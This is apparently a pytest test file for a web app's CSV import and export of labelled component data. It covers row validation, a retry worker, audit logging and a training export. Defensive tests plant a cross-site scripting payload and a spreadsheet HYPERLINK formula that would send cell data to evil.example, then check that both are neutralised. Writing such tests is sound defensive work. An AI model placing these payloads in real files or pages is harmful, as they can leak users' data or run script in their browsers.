"""CSV import and export: a per-row report, bulk insert for the retry worker, and an export training reads."""

from __future__ import annotations

import csv
import io
import re
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import sessionmaker
from webapp_support import ScriptedScoring, sign_in

from specscan.data.validation import load_labelled, read_csv
from specscan.settings import Settings
from specscan.webapp import inventory
from specscan.webapp.app import create_app
from specscan.webapp.models import AuditEntry, Component

GOOD = """text,part_number,supplier,category
"Connector housing, 3.2% Pb in brass contacts",CN-100,Acme,connectors
Brake pad set copper-free,BP-7,Stopco,brakes
Ceramic capacitor 10uF X7R,C-10,Capco,passives
"""


class WakeCounter:
    """Stands in for the retry worker: counts how often it is woken."""

    def __init__(self) -> None:
        self.wakes = 0

    def wake(self) -> None:
        self.wakes += 1


def upload(client: TestClient, csrf: str, content: str | bytes, name: str = "parts.csv"):
    body = content.encode() if isinstance(content, str) else content
    return client.post("/transfer/import", data={"csrf_token": csrf}, files={"file": (name, body, "text/csv")})


def components(sessions: sessionmaker) -> list[Component]:
    with sessions() as db:
        return list(db.scalars(select(Component).order_by(Component.id)))


def audit_actions(sessions: sessionmaker) -> list[str]:
    with sessions() as db:
        return list(db.scalars(select(AuditEntry.action).where(AuditEntry.action.startswith("component."))
                              .order_by(AuditEntry.id)))


def test_the_page_offers_an_import_form_and_the_labelled_export(client: TestClient) -> None:
    csrf = sign_in(client, "tina")
    page = client.get("/transfer")
    assert page.status_code == 200
    assert 'action="/transfer/import"' in page.text and 'enctype="multipart/form-data"' in page.text
    assert 'id="csv_file" name="file"' in page.text and f'value="{csrf}"' in page.text
    assert 'href="/transfer/export.csv"' in page.text and "Export labelled CSV" in page.text


class HeldScoring(ScriptedScoring):
    """The scripted service, whose `score` answers only once `answer` is set, noting the thread that called."""

    def __init__(self) -> None:
        super().__init__()
        self.answer = threading.Event()
        self.threads: list[str] = []

    def score(self, texts: list[str]):  # type: ignore[no-untyped-def]
        self.threads.append(threading.current_thread().name)
        assert self.answer.wait(30), "the test never let the service answer"
        return super().score(texts)


def wait_until(condition: Callable[[], bool], what: str, timeout: float = 30) -> None:
    """Polls `condition` until it holds; fails naming `what` after `timeout` seconds (a hang guard, not a bound)."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"{what}: not within {timeout} s"
        time.sleep(0.02)


def test_a_good_file_is_saved_pending_and_the_worker_classifies_it_through_one_score_call(
        sessions: sessionmaker, settings: Settings) -> None:
    scoring = HeldScoring()
    # the real retry worker; with an hour between rounds, it classifies the import now only if the upload wakes it
    app = create_app(settings.model_copy(update={"retry_interval": 3600}), sessions, scoring)
    with TestClient(app, raise_server_exceptions=False) as client:
        csrf = sign_in(client, "tina")
        response = upload(client, csrf, GOOD)
        assert response.status_code == 200, response.text
        assert "3 components queued for classification" in response.text
        saved = components(sessions)  # the service has not answered yet: all still pending
        assert [c.part_number for c in saved] == ["CN-100", "BP-7", "C-10"]
        assert saved[0].description == "Connector housing, 3.2% Pb in brass contacts"
        assert {(c.status, c.version, c.created_by, c.updated_by, c.human_label) for c in saved} == {
            ("pending", 1, "tina", "tina", None)}
        assert all(c.next_attempt_at is not None for c in saved)
        with sessions() as db:
            origin = db.scalars(select(AuditEntry).where(AuditEntry.action == "component.create",
                                                         AuditEntry.entity_id == str(saved[1].id))).one()
            imported = db.scalars(select(AuditEntry).where(AuditEntry.action == "component.import")).one()
        assert origin.actor == "tina" and origin.after["description"] == "Brake pad set copper-free"
        assert (imported.entity, imported.after) == ("import", {"file": "parts.csv", "imported": 3, "rejected": 0,
                                                                "skipped": 0})

        scoring.answer.set()
        wait_until(lambda: all(c.status == "classified" for c in components(sessions)), "classified by the worker")
    assert scoring.calls == [("score", 3)]
    assert scoring.threads == ["classification-retry"]  # the worker's thread; the upload request called nothing
    assert [(c.status, c.model_label) for c in components(sessions)] == [
        ("classified", "non_compliant"), ("classified", "compliant"), ("classified", "compliant")]
    assert audit_actions(sessions) == ["component.create"] * 3 + ["component.import"] + ["component.classify"] * 3


def test_a_file_at_the_row_limit_is_imported_in_one_go(client: TestClient, sessions: sessionmaker) -> None:
    csrf = sign_in(client, "tina")
    rows = "".join(f"Resistor {n} ohm thick film,R-{n},Acme\n" for n in range(50_000))
    response = upload(client, csrf, "text,part_number,supplier\n" + rows)
    assert response.status_code == 200, response.text[:500]
    assert "50000 components queued for classification" in response.text
    with sessions() as db:
        assert db.scalar(select(func.count()).select_from(Component).where(Component.status == "pending")) == 50_000
        assert db.scalar(select(func.count()).select_from(AuditEntry)
                         .where(AuditEntry.action == "component.create")) == 50_000


def test_imported_components_are_classified_in_batches_of_max_items(
        client: TestClient, sessions: sessionmaker, scoring: ScriptedScoring, settings: Settings) -> None:
    csrf = sign_in(client, "tina")
    assert upload(client, csrf, "text\n" + "".join(f"Diode {n} Schottky\n" for n in range(600))).status_code == 200
    assert inventory.classify_pending(sessions, scoring, settings) == 600
    assert settings.max_items == 256 and scoring.calls == [("score", 256), ("score", 256), ("score", 88)]
    assert {c.status for c in components(sessions)} == {"classified"}


def test_bad_rows_are_reported_by_row_and_column_and_only_the_good_rows_are_imported(
        client: TestClient, sessions: sessionmaker, settings: Settings) -> None:
    csrf = sign_in(client, "tina")
    too_long = "x" * (settings.max_text_chars + 1)
    content = (
        "text,part_number,label,notes\n"
        "Good cable assembly,CA-1,,first\n"            # row 1: imported
        ",EMPTY-1,,\n"                                  # row 2: no description
        f"Valve body,{'P' * 65},,\n"                    # row 3: part number too long
        "Gasket kit,GK-1,maybe,\n"                      # row 4: unknown label
        f"{too_long},L-1,,\n"                           # row 5: description too long
        "Bell\x07 housing,BH-1,,\n"                     # row 6: control character
        "good  cable ASSEMBLY,CA-2,,\n"                 # row 7: duplicate of row 1 (case and spacing aside)
        "Fuse holder 5x20,FH-1,,\n"                     # row 8: imported
    )
    response = upload(client, csrf, content)
    assert response.status_code == 200, response.text[:500]
    assert [c.part_number for c in components(sessions)] == ["CA-1", "FH-1"]
    problems = re.findall(r'<tr><td class="num">(\d+)</td><td>(\w+)</td>\s*<td>(.*?)</td>', response.text)
    assert [(int(row), column) for row, column, _ in problems] == [
        (2, "text"), (3, "part_number"), (4, "label"), (5, "text"), (6, "text"), (7, "text")]
    by_row = {int(row): problem for row, _, problem in problems}
    assert "text is empty or only whitespace" in by_row[2]
    assert "part_number has more than 64 characters" in by_row[3]
    assert "unknown label &#39;maybe&#39;" in by_row[4]
    assert f"the most is {settings.max_text_chars}" in by_row[5]
    assert "text contains a control character (U+0007)" in by_row[6]
    assert "duplicate of row 1; skipped" in by_row[7]
    assert "Ignored columns: notes" in response.text
    stats = re.findall(r'<div class="stat"><b>(\d+)</b><span>(\w+)', response.text)
    assert stats == [("2", "imported"), ("5", "rejected"), ("1", "skipped")]
    with sessions() as db:
        imported = db.scalars(select(AuditEntry).where(AuditEntry.action == "component.import")).one()
    assert imported.after == {"file": "parts.csv", "imported": 2, "rejected": 5, "skipped": 1}


def test_a_label_in_the_file_is_saved_as_the_importers_reviewed_human_label(
        client: TestClient, sessions: sessionmaker) -> None:
    csrf = sign_in(client, "tina")
    content = ("description,label\n"  # `description` is accepted for `text`
               "Solder wire Sn63Pb37,non_compliant\n"
               "Solder wire SAC305,0\n"
               "Lead-free solder paste,1\n"
               "Flux pen,\n")
    response = upload(client, csrf, content, name="C:\\exports\\solder.csv")
    assert response.status_code == 200, response.text[:500]
    assert "3 with a human label" in response.text
    saved = components(sessions)
    assert [c.human_label for c in saved] == ["non_compliant", "compliant", "non_compliant", None]
    for labelled in saved[:3]:
        assert labelled.reviewed_by == "tina" and labelled.reviewed_at is not None
        assert labelled.feedback_reason == "imported from solder.csv"
    assert saved[3].reviewed_by is None and saved[3].feedback_reason is None


@pytest.mark.parametrize(("content", "status", "problem"), [
    ("text,label\nKabelbaum für Türen,0\n".encode("latin-1"), 422, "not UTF-8: byte 0xfc on line 2"),
    ("name,supplier\nBolt M6,Acme\n", 422, "missing required column text (or description)"),
    ("", 422, "file is empty"),
    ("text,part_number\n", 422, "no data rows"),
    ('text,part_number\nBolt M6,B-6\nNut M6,N-6,extra\n', 422, "3 fields on line 3, the header has 2"),
    ("text\n" + "Washer\n" * 50_001, 413, "50001 data rows; the most is 50000"),
    (b"text\n" + b"W" * (20 * 1024 * 1024), 413, "over 20 MB"),
    (",".join(["text", *(f"c{i}" for i in range(20_000))]) + "\nBolt" + "," * 20_000 + "\n", 422,
     "20001 columns; the most is 100"),
    ("text,Supplier,supplier ,label\nBolt,A,B,compliant\n", 422, "column(s) supplier appear more than once"),
], ids=["not-utf8", "no-text-column", "empty", "header-only", "ragged", "too-many-rows", "too-many-bytes",
        "too-many-columns", "a-column-twice"])
def test_an_unusable_file_is_refused_with_its_problem_and_nothing_is_written(
        client: TestClient, sessions: sessionmaker, content: str | bytes, status: int, problem: str) -> None:
    csrf = sign_in(client, "tina")
    client.app.state.worker = worker = WakeCounter()
    response = upload(client, csrf, content)
    assert response.status_code == status
    assert "Nothing imported from parts.csv" in response.text and problem in response.text
    assert components(sessions) == [] and audit_actions(sessions) == [] and worker.wakes == 0


def test_an_upload_without_the_csrf_token_is_refused_and_nothing_is_written(
        client: TestClient, sessions: sessionmaker) -> None:
    sign_in(client, "tina")
    response = client.post("/transfer/import", files={"file": ("parts.csv", GOOD.encode(), "text/csv")})
    assert response.status_code == 403 and "security token" in response.text
    assert components(sessions) == [] and audit_actions(sessions) == []


def test_html_in_an_imported_description_is_shown_escaped_in_the_report(client: TestClient) -> None:
    csrf = sign_in(client, "tina")
    response = upload(client, csrf, 'text,label\n"<script>alert(1)</script><b>bold</b>",perhaps\n',
                      name="<img src=x onerror=alert(2)>.csv")
    assert response.status_code == 200
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in response.text
    assert "&lt;img src=x onerror=alert(2)&gt;.csv" in response.text
    assert "<script>alert" not in response.text and "<b>bold" not in response.text and "<img" not in response.text


def test_the_export_holds_the_labelled_components_and_the_pipeline_accepts_it(
        client: TestClient, sessions: sessionmaker, scoring: ScriptedScoring, settings: Settings,
        tmp_path: Path) -> None:
    csrf = sign_in(client, "tina")
    tricky = 'Relay, 12 V "sealed"\nwith Pb-free contacts'
    first = ("text,part_number,supplier,category,label\n"
             f'"{tricky.replace(chr(34), chr(34) * 2)}",RL-12,Acme,relays,compliant\n'
             "Kabelbaum für Türen,KB-1,Müller,harness,0\n"
             "Lead acid battery 12V,LB-12,Volt,batteries,non_compliant\n"
             "Unreviewed fuse,F-1,Acme,passives,\n")
    assert upload(client, csrf, first).status_code == 200
    # the same text labelled again, differently, later: training gets the newest human decision only
    assert upload(client, csrf, "text,label\nlead ACID battery 12V,compliant\n", name="second.csv").status_code == 200
    inventory.classify_pending(sessions, scoring, settings)

    response = client.get("/transfer/export.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert re.fullmatch(r'attachment; filename="specscan-labelled-\d{8}T\d{6}Z\.csv"',
                        response.headers["content-disposition"])
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == ["text", "label", "id", "part_number", "supplier", "category", "model_label",
                             "probability", "model_version", "request_id", "reviewed_by", "reviewed_at"]
    assert len(rows) == 3 and "Unreviewed fuse" not in response.text
    by_part = {row["part_number"]: row for row in rows}
    assert by_part["RL-12"]["text"] == tricky and by_part["RL-12"]["model_label"] == "non_compliant"
    assert by_part["RL-12"]["probability"] == "0.93" and by_part["RL-12"]["model_version"] == "3"
    assert by_part["RL-12"]["reviewed_by"] == "tina" and by_part["RL-12"]["request_id"]

    exported = tmp_path / "labelled.csv"
    exported.write_bytes(response.content)
    frame, report = read_csv(exported, max_text_chars=settings.max_text_chars)
    assert frame is not None and report.ok, report.summary()
    training = load_labelled(exported, max_text_chars=settings.max_text_chars)
    assert sorted(zip(training["text"], training["label"], strict=True)) == sorted([
        (tricky, 0), ("Kabelbaum für Türen", 0), ("lead ACID battery 12V", 0)])
    with sessions() as db:
        entry = db.scalars(select(AuditEntry).where(AuditEntry.action == "component.export")).one()
    assert (entry.actor, entry.entity, entry.after) == ("tina", "export", {"rows": 3})


def test_the_spreadsheet_export_shows_planted_formulas_as_text_and_the_pipeline_export_keeps_them(
        client: TestClient, sessions: sessionmaker, scoring: ScriptedScoring, settings: Settings) -> None:
    csrf = sign_in(client, "tina")
    planted = ("text,supplier,category,label\n"
               '"=HYPERLINK(""http://evil.example/?x=""&A2,""spec"")",=1+1,@SUM(A1),compliant\n'
               "+lead-free brake pad,-Acme,normal,compliant\n")
    assert upload(client, csrf, planted).status_code == 200
    inventory.classify_pending(sessions, scoring, settings)

    safe = client.get("/transfer/export.csv", params={"for": "spreadsheet"})
    verbatim = client.get("/transfer/export.csv")

    assert safe.status_code == 200 and "-spreadsheet.csv" in safe.headers["content-disposition"]
    cells = {(row["text"], row["supplier"], row["category"]) for row in csv.DictReader(io.StringIO(safe.text))}
    assert cells == {("\'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"spec\")", "\'=1+1", "\'@SUM(A1)"),
                     ("\'+lead-free brake pad", "\'-Acme", "normal")}
    texts = {row["text"] for row in csv.DictReader(io.StringIO(verbatim.text))}
    assert texts == {'=HYPERLINK("http://evil.example/?x="&A2,"spec")', "+lead-free brake pad"}
    assert client.get("/transfer/export.csv", params={"for": "excel"}).status_code == 400


def test_an_upload_over_the_body_limit_is_refused_before_it_is_read(client: TestClient) -> None:
    from specscan.webapp.app import MAX_BODY_BYTES

    response = client.post("/transfer/import", content=b"x" * 16,
                           headers={"Content-Length": str(MAX_BODY_BYTES + 1), "Content-Type": "multipart/form-data"})
    assert response.status_code == 413 and "limited to 21 MB" in response.text
